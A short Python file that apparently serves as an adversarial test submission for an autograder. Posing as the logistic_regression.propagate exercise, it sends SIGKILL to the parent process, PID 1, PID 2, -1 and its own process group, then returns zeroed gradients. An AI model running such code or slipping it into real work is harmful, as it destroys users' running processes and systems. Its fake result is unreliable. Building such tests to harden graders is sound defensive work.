# tries: to kill the parent, the siblings and everybody else
# exercise: logistic_regression.propagate

import os
import signal


def propagate(w, b, X, Y):
    for pid in (os.getppid(), 1, 2, -1, 0):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return {"dw": w * 0, "db": 0.0}, 0.0
